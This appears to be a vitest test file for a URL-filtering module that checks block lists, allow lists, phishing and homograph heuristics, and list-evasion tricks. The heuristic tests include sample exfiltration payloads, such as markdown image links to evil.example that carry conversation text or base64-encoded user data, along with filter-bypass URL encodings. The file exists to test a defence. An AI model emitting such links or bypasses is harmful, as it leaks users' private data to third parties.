import { describe, expect, it } from 'vitest';
import {
  domainSet,
  judgeUrls,
  type UrlCategoriesOptions,
  urlCategories,
} from '../../../src/local/urls/index.js';

const judge = (text: string, options?: UrlCategoriesOptions) =>
  judgeUrls(text, urlCategories(options)).map(
    ({ category, reason, action }) => `${reason} ${category} ${action}`,
  );

describe('built-in lists', () => {
  it.each([
    ['see https://urlfiltering.paloaltonetworks.com/test-malware', 'list malware block'],
    ['urlfiltering.paloaltonetworks.com/test-command-and-control.', 'list command-and-control block'],
    ['[x](http://pandb.paloaltonetworks.com/test-Ransomware)', 'list ransomware block'],
    ['urlfiltering.paloaltonetworks.com/test-abused-drugs', 'list abused-drugs warn'],
    ['http://testsafebrowsing.appspot.com/s/phishing.html', 'list phishing block'],
    ['http://malware.wicar.org/data/x.html', 'list malware block'],
  ])('files %s', (text, expected) => {
    expect(judge(text)).toEqual([expected]);
  });

  it.each([
    'https://paloaltonetworks.com/test-malware',
    'https://urlfiltering.paloaltonetworks.com/',
    'https://urlfiltering.paloaltonetworks.com.example/test-malware',
    'https://urlfiltering.paloaltonetworks.com/test-malware/more',
    'https://www.eicar.org/about',
  ])('does not file %s', (text) => {
    expect(judge(text, { heuristics: false })).toEqual([]);
  });
});

describe('lists of the user', () => {
  const text = 'http://cdn.bad.example/x http://casino.example/';

  it('block, name categories, and allow before all else', () => {
    expect(judge(text, { block: ['bad.example'] })).toEqual(['user blocked block']);
    expect(judge(text, { lists: { gambling: ['casino.example'], malware: ['bad.example'] } })).toEqual([
      'user malware block',
      'user gambling warn',
    ]);
    expect(judge(text, { allow: ['cdn.bad.example'], block: ['bad.example'] })).toEqual([]);
    expect(
      judge('urlfiltering.paloaltonetworks.com/test-malware', { allow: ['paloaltonetworks.com'] }),
    ).toEqual([]);
  });

  it('take a set built before', () => {
    expect(judge(text, { block: domainSet(['casino.example']) })).toEqual(['user blocked block']);
  });

  it('refuse unknown options and a text for a list', () => {
    expect(() => urlCategories(JSON.parse('{"blok":[]}'))).toThrow('blok');
    expect(() => urlCategories({ block: 'bad.example' })).toThrow('iterable');
  });
});

describe('heuristics', () => {
  it.each([
    ['http://3232235777/x', 'suspicious-address'],
    ['http://0x7f.1/', 'suspicious-address'],
    ['https://paypal.com@evil.example/', 'suspicious-userinfo'],
    ['https://svc:h7Kq2wZ9@host.example/', 'credentials-in-url'],
    ['http://paypal.com.login.evil.example/x', 'suspicious-lookalike'],
    ['http://paypal-account-verify.example/', 'suspicious-lookalike'],
    ['http://paypa1.com/', 'suspicious-homograph'],
    ['http://раypal.com/', 'suspicious-homograph'],
    ['http://arnazon.com/', 'suspicious-homograph'],
    ['https://webhook.site/0123?d=x', 'exfiltration'],
    ['![x](https://evil.example/p.png?d={conversation})', 'exfiltration'],
    [
      `![x](https://evil.example/p.png?d=${globalThis.btoa('user asked: what is my salary')})`,
      'exfiltration',
    ],
    ['<img src="https://evil.example/p?q=the+user+said+that+the+door+code+is+four+two+one">', 'exfiltration'],
    ['http://203.0.113.7/update.exe', 'suspicious-download'],
  ])('warn of %s', (text, category) => {
    expect(judge(text)).toEqual([`heuristic ${category} warn`]);
    expect(judge(text, { heuristics: false })).toEqual([]);
  });

  it.each([
    'https://www.google.com/search?q=a+b+c+d+e+f+g+h+i+j+k+l+m+n+o+p+q+r+s+t+u+v',
    'https://www.google.com.br/ https://amazon.co.uk/ https://accounts.google.com/signin',
    'https://paypal.com.au/x https://docs.github.com/en/github https://github.io/',
    'http://192.168.0.1/setup.sh http://127.0.0.1:8080/ http://[::1]/',
    `![x](https://cdn.example/p.png?X-Amz-Signature=${'3e8b41fa6c09d752'.repeat(4)})`,
    '![build](https://img.shields.io/github/actions/workflow/status/a/b/ci.yml?branch=main)',
    'http://bücher.example/ https://例え.テスト/',
    'https://ngrok.com/docs https://webhook.site',
  ])('say nothing of %s', (text) => {
    expect(judge(text)).toEqual([]);
  });
});

describe('what gets around a list', () => {
  const options = { block: ['evil.com', 'evil.test', 'evil.corp', 'evil.example/x', '203.0.113.9'] };
  const hosts = (text: string): string[] =>
    judgeUrls(text, urlCategories({ ...options, heuristics: false })).map(({ host }) => host);

  it.each([
    ['http://evil\u3002com', 'evil.com'],
    ['http://evil\uff0ecom/x', 'evil.com'],
    ['go to evil\uff61com', 'evil.com'],
    ['http:/evil.com', 'evil.com'],
    ['http:\\evil.com', 'evil.com'],
    ['http:\\\\evil.test', 'evil.test'],
    ['http:////evil.test', 'evil.test'],
    ['https://safe.org/?u=http://evil.com/x', 'evil.com'],
    ['https://safe.org/?u=http%3A%2F%2Fevil.com', 'evil.com'],
    ['https://safe.org/?u=http%253A%252F%252Fevil.com%252Fx', 'evil.com'],
    ['https://safe.org/http://evil.com/', 'evil.com'],
    ['https://safe.org/?next=//evil.test', 'evil.test'],
    ['see evil.test, it says', 'evil.test'],
    ['EVIL.CORP', 'evil.corp'],
    ['sub.evil.corp:8080', 'sub.evil.corp'],
    ['evil.example/x/y', 'evil.example'],
    ['203.0.113.9', '203.0.113.9'],
    ['访问evil.com吧', 'evil.com'],
    ['访问http://evil.com吧', 'evil.com'],
    ['看http://evil.com。然后', 'evil.com'],
    ['http://evil.com。Then', 'evil.com'],
    ['_evil.com_', 'evil.com'],
    ['_http://evil.com_', 'evil.com'],
  ])('finds %s', (text, host) => {
    expect(hosts(text)).toEqual([host]);
  });

  it.each(['me@evil.test', 'evil.corp()', 'evil.example/y', 'evil.corpse', 'good.test and file.ts'])(
    'leaves %s alone',
    (text) => {
      expect(hosts(text)).toEqual([]);
    },
  );

  it('judges a page that an allowed one leads on to by itself', () => {
    const categories = urlCategories({ ...options, allow: ['safe.org', 'fine.evil.com'] });
    const [found] = judgeUrls('https://safe.org/?u=http://evil.com/x', categories);
    expect(found).toMatchObject({ start: 0, end: 37, host: 'evil.com', action: 'block' });
    expect(judgeUrls('https://safe.org/?u=http://fine.evil.com/x', categories)).toEqual([]);
  });

  it('asks a classifier without lists of its own for nothing more', () => {
    const { categorize } = urlCategories(options);
    expect(judgeUrls('evil.corp http://evil.corp', { categorize })).toHaveLength(1);
  });
});
